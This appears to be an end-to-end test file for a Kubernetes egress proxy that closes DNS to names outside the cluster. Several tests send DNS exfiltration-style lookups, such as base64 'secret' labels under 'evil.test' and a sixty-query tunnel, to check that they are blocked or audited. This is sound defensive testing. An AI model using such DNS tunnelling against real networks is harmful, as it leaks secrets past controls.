import { readFileSync } from 'node:fs';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { podManifest } from '../../scripts/scenario/stage.ts';
import {
  apply,
  condition,
  echo,
  eventually,
  inPod,
  kubectl,
  leaveNamespaces,
  makeNamespace,
  makeProxy,
  removeNamespaces,
} from './support/client-pods.ts';
import { CACHE, removeNodeLocalDns, startNodeLocalDns } from './support/node-local-dns.ts';
import { podsOf } from './support/own-proxy.ts';

const PROXY = { namespace: 'closed-dns-proxy', name: 'closed' };
/** Enforced; in observe mode; both with dns: ClusterOnly. */
const [CLOSED, WATCHED] = ['closed-dns', 'closed-dns-watched'];
const POD = `${CLOSED}/api`;
/** The host of a direct target. */
const DIRECT = 'direct.example.com';

const query = readFileSync(new URL('support/dns-query.py', import.meta.url), 'utf8');

/** What a nameserver answers: `<rcode> <records> <extended error>`, or `silent` after three seconds. */
async function ask(pod: string, server: string, name: string, type = 'A', protocol = 'udp'): Promise<string> {
  const asked = await inPod(pod, `python3 - ${server} ${name} ${type} ${protocol} << 'END'\n${query}\nEND`);
  return asked.stdout.trim() || asked.stderr;
}

const nameservers = async (pod: string) =>
  (await inPod(pod, "sed -n 's/^nameserver //p' /etc/resolv.conf")).stdout.trim().split('\n');
const resolves = async (pod: string, name: string) => (await inPod(pod, `getent hosts ${name}`)).code === 0;

const podObject = (name: string) =>
  kubectl('create -f - --dry-run=client -o json', podManifest(CLOSED, name));

/** What became of the queries of one protocol: how the ones without an answer failed. */
interface Asked {
  answered: number;
  failed: string[];
}

/**
 * Asks the server for a name of the cluster until the file exists in the pod, over UDP and beside it over TCP. Each query is
 * sent once, from a port of its own, and waits five seconds over UDP, as resolvers do before they ask again.
 */
async function askUntil(file: string, server: string): Promise<Record<'udp' | 'tcp', Asked>> {
  const script = `
import json, os, socket, struct, threading, time
name = b"".join(bytes([len(l)]) + l.encode() for l in "kubernetes.default.svc.cluster.local".split(".")) + bytes(1)
message = struct.pack(">HHHHHH", 7, 0x100, 1, 0, 0, 0) + name + struct.pack(">HH", 1, 1)
def ask(tcp, into):
  while not os.path.exists("${file}"):
    began = time.strftime("%H:%M:%S")
    try:
      with socket.socket(socket.AF_INET6 if ":" in "${server}" else socket.AF_INET, socket.SOCK_STREAM if tcp else socket.SOCK_DGRAM) as s:
        s.settimeout(20 if tcp else 5)
        s.connect(("${server}", 53))
        s.sendall(struct.pack(">H", len(message)) + message if tcp else message)
        answer = s.recv(4096)[2 if tcp else 0:]
        assert answer[:2] == message[:2] and answer[3] & 15 == 0 and answer[6:8] != bytes(2), answer
      into["answered"] += 1
    except Exception as error: into["failed"].append(began + " " + repr(error))
    time.sleep(0.02)
asked = {protocol: {"answered": 0, "failed": []} for protocol in ("udp", "tcp")}
threads = [threading.Thread(target=ask, args=(protocol == "tcp", asked[protocol])) for protocol in asked]
for thread in threads: thread.start()
for thread in threads: thread.join()
print(json.dumps(asked))`;
  const { stdout, stderr } = await inPod(POD, `python3 - <<'END'\n${script}\nEND`, 280);
  expect(stdout, stderr).toMatch(/^{/);
  return JSON.parse(stdout);
}

/** The audit lines about names of a namespace. */
async function askedNames(namespace: string): Promise<{ target: string; queries: number; pod: string }[]> {
  const lines = await kubectl(`logs -n ${PROXY.namespace} -l app=${PROXY.name} -c agent --tail=-1`);
  return lines
    .split('\n')
    .filter((line) => line.includes('"method":"DNS"'))
    .map((line) => JSON.parse(line))
    .filter((record) => record.namespace === namespace);
}

beforeAll(async () => {
  const directTargets = { policy: 'Allow', cidrs: ['203.0.113.0/24'], ports: [5432] };
  await makeProxy(PROXY, { replicas: 2, dns: 'ClusterOnly', dnsAllow: ['*.example.org'], directTargets });
  await removeNamespaces(CLOSED, WATCHED);
  await makeNamespace({ namespace: CLOSED, mode: 'enforce' });
  await makeNamespace({ namespace: WATCHED, mode: 'observe' });
  await kubectl(
    `label namespace ${CLOSED} ${WATCHED} egress.zalando.org/proxy=${PROXY.namespace}.${PROXY.name}`,
  );
  const address = `get -n ${PROXY.namespace} egressproxy/${PROXY.name} -o jsonpath={.status.dnsAddresses[0]}`;
  expect(await eventually(async () => (await kubectl(address)) !== '', true, 120)).toBe(true);
  for (const namespace of [CLOSED, WATCHED]) {
    await kubectl('apply -f -', podManifest(namespace, 'api'));
    await kubectl(`wait -n ${namespace} --for=condition=Ready pod/api --timeout=60s`);
  }
  await apply({
    apiVersion: 'zalando.org/v1',
    kind: 'EgressRuleSet',
    metadata: { name: 'rules', namespace: CLOSED },
    spec: { targets: ['a.example.com:80'], directTargets: [{ host: DIRECT, port: 5432 }] },
  });
  await kubectl(`wait -n ${CLOSED} --for=condition=Programmed egressruleset/rules --timeout=30s`);
});
afterAll(async () => {
  await removeNodeLocalDns();
  await leaveNamespaces(CLOSED, WATCHED, PROXY.namespace);
});

describe('dns: ClusterOnly', () => {
  test('names of the cluster are resolved as before, in both families and both protocols', async () => {
    for (const name of [
      'kubernetes.default',
      'kube-dns.kube-system.svc',
      'kube-dns.kube-system.svc.cluster.local',
    ]) {
      expect(await resolves(POD, name), name).toBe(true);
    }
    for (const server of await nameservers(POD)) {
      for (const protocol of ['udp', 'tcp']) {
        const answer = await ask(POD, server, 'kubernetes.default.svc.cluster.local', 'A', protocol);
        expect(answer, `${server} ${protocol}`).toMatch(/^NOERROR [1-9]/);
      }
    }
    expect(await nameservers(POD)).toHaveLength(2);
  });

  test('the proxy resolves the names of requests', async () => {
    const call = await inPod(POD, "curl -s -o /dev/null -m 10 -w '%{http_code}' http://a.example.com/");
    expect(call.stdout).toBe('200');
  });

  test.each(['A', 'AAAA', 'TXT', 'NULL', 'CNAME', 'MX'])(
    '%s of an outside name does not exist, and the reason is given',
    async (type) => {
      const [server = ''] = await nameservers(POD);
      const answer = await ask(
        POD,
        server,
        `c2VjcmV0${'a'.repeat(50)}.${type.toLowerCase()}.evil.test`,
        type,
      );
      expect(answer).toMatch(/^NXDOMAIN 0 15 \S+ is outside of the cluster.*HTTPS_PROXY/);
    },
  );

  test('no other nameserver can be reached', async () => {
    const clusterIP = await kubectl('get service kube-dns -n kube-system -o jsonpath={.spec.clusterIP}');
    const dnsPod = await kubectl(
      "get pods -n kube-system -l k8s-app=kube-dns -o jsonpath='{.items[0].status.podIP}'",
    );
    expect(await ask(`${WATCHED}/api`, clusterIP, 'c2VjcmV0.evil.test')).toMatch(/^NOERROR 1/);
    for (const server of [clusterIP, dnsPod, '203.0.113.53', '169.254.20.10']) {
      for (const protocol of ['udp', 'tcp']) {
        expect(await ask(POD, server, 'c2VjcmV0.evil.test', 'A', protocol), `${server} ${protocol}`).toBe(
          'silent',
        );
      }
    }
  });

  test('a policy of the team does not open it again', async () => {
    const open = {
      apiVersion: 'networking.k8s.io/v1',
      kind: 'NetworkPolicy',
      metadata: { name: 'open-dns', namespace: CLOSED },
      spec: { podSelector: {}, policyTypes: ['Egress'], egress: [{ to: [{ namespaceSelector: {} }] }] },
    };
    await kubectl(
      `create rolebinding tenant -n ${CLOSED} --clusterrole=admin --user=closed-dns-tenant --dry-run=client -o yaml | kubectl apply -f -`,
    );
    const asTenant = kubectl('create --as=closed-dns-tenant -f -', JSON.stringify(open));
    await expect(asTenant).rejects.toThrow(/has its DNS closed/);
  });

  test('a name that the operator allows is resolved', async () => {
    const [server = ''] = await nameservers(POD);
    expect(await ask(POD, server, 'a.example.org')).toMatch(/^NOERROR 1/);
  });

  test('the host of a direct target is resolved, and connected to past the proxy; a name beside it is not', async () => {
    expect(await eventually(() => echo(POD, 'TCP', DIRECT, 5432), 'echo', 60)).toBe('echo');
    expect(await resolves(POD, `c2VjcmV0.${DIRECT}`)).toBe(false);
    expect(await resolves(POD, 'other.example.com')).toBe(false);
  });

  test('a pod keeps its host aliases', async () => {
    const aliased = JSON.parse(await podObject('aliased'));
    aliased.spec.hostAliases = [{ ip: '192.0.2.7', hostnames: ['alias.example.net'] }];
    await kubectl('apply -f -', JSON.stringify(aliased));
    await kubectl(`wait -n ${CLOSED} --for=condition=Ready pod/aliased --timeout=60s`);
    const { stdout } = await inPod(`${CLOSED}/aliased`, 'getent hosts alias.example.net');
    expect(stdout).toMatch(/^192\.0\.2\.7 /);
    expect(await resolves(`${CLOSED}/aliased`, 'kubernetes.default')).toBe(true);
    expect(await resolves(`${CLOSED}/aliased`, 'other.example.net')).toBe(false);
  });

  test('the cache of NodeLocal DNSCache is closed too, and is that of others', async () => {
    await startNodeLocalDns();
    const cached = (pod: string, protocol: string) => ask(pod, CACHE, 'c2VjcmV0.evil.test', 'A', protocol);
    for (const protocol of ['udp', 'tcp']) {
      const open = async () => (await cached(`${WATCHED}/api`, protocol)).split(' ')[0];
      expect(await eventually(open, 'NOERROR', 60)).toBe('NOERROR');
      expect(await cached(POD, protocol)).toBe('silent');
    }
    expect(await resolves(POD, 'kubernetes.default')).toBe(true);
  });

  // kube-proxy forgets the flow of a query over UDP when its pod is no endpoint any more, and network plugins may learn of the
  // new pod after its first query: a packet can be lost, which resolvers send again. It is refused if a nameserver ends while
  // kube-proxy still leads a flow to it, as a query from a port that was used before.
  test('queries are answered while one proxy pod of two goes, and then the other one: over TCP all, over UDP all but one for each pod that goes or comes', async () => {
    const [server = ''] = await nameservers(POD);
    const rolledOut = () =>
      kubectl(`rollout status -n ${PROXY.namespace} deployment/${PROXY.name} --timeout=120s`, '', 130);
    await rolledOut();
    const asking = askUntil('/tmp/enough', server);
    const pods = await podsOf(PROXY);
    for (const pod of pods) {
      await kubectl(`delete pod -n ${PROXY.namespace} ${pod} --timeout=120s`, '', 130);
      await rolledOut();
    }
    await inPod(POD, 'touch /tmp/enough');
    const { udp, tcp } = await asking;
    expect(tcp.failed).toEqual([]);
    expect(udp.failed.filter((failure) => failure.includes('Refused'))).toEqual([]);
    expect(udp.failed.length, udp.failed.join('; ')).toBeLessThanOrEqual(2 * pods.length);
    for (const { answered } of [udp, tcp]) expect(answered).toBeGreaterThan(50);
  }, 300_000);

  test('a tunnel shows as one target with its queries, by the pod', async () => {
    const many = `for i in $(seq 60); do echo $i.t.tunnel.test; done`;
    await inPod(POD, `for name in $(${many}); do getent ahosts $name > /dev/null; done`, 60);
    const seen = async () =>
      (await askedNames(CLOSED)).some(({ target, pod }) => target === '*.tunnel.test:53' && pod === 'api');
    expect(await eventually(seen, true, 30)).toBe(true);
    // Each pod of the proxy writes what it was asked at its own time.
    const isCounted = async () => {
      const records = (await askedNames(CLOSED)).filter(({ target }) => target.includes('tunnel.test'));
      return records.reduce((sum, { queries }) => sum + queries, 0) >= 60;
    };
    expect(await eventually(isCounted, true, 60)).toBe(true);
    expect(await condition(CLOSED, 'egressactivity/observed', 'NameserverUsed')).toBe('True NameserverUsed');
  });
});

describe('observe mode', () => {
  test('resolves every name, and says what would not be resolved', async () => {
    expect(await resolves(`${WATCHED}/api`, 'c2VjcmV0.evil.test')).toBe(true);
    const seen = async () =>
      (await askedNames(WATCHED)).some(({ target }) => target === 'c2vjcmv0.evil.test:53');
    expect(await eventually(seen, true, 30)).toBe(true);
  });
});

describe('transparent mode', () => {
  test('redirects a program without a proxy to it by one address for every name, and answers nothing else', async () => {
    const proxy = `-n ${PROXY.namespace} egressproxy/${PROXY.name}`;
    await kubectl(`patch ${proxy} --type=merge -p '{"spec":{"clientEnv":{"transparent":true}}}'`);
    const injected = () =>
      kubectl(
        `run seen -n ${CLOSED} --image=x --dry-run=server -o jsonpath='{.spec.initContainers[0].name}'`,
      );
    expect(await eventually(injected, 'kube-egress-forward', 60)).toBe('kube-egress-forward');
    await kubectl('apply -f -', podManifest(CLOSED, 'redirected'));
    await kubectl(`wait -n ${CLOSED} --for=condition=Ready pod/redirected --timeout=90s`);
    const pod = `${CLOSED}/redirected`;
    const curl = async (host: string) =>
      (await inPod(pod, `curl --noproxy '*' -s -o /dev/null -m 20 -w '%{http_code}' http://${host}/`)).stdout;
    expect(await eventually(() => curl('a.example.com'), '200')).toBe('200');
    expect(await curl('other.example.com')).toBe('403');
    const { stdout } = await inPod(pod, 'getent ahostsv4 c2VjcmV0.evil.test');
    expect(stdout).toMatch(/^198\.18\.0\.1 /);
    const [server = ''] = await nameservers(pod);
    expect(await ask(pod, server, 'c2VjcmV0.evil.test', 'TXT')).toMatch(/^NOERROR 0/);
    expect(await resolves(pod, 'kubernetes.default')).toBe(true);
  });
});
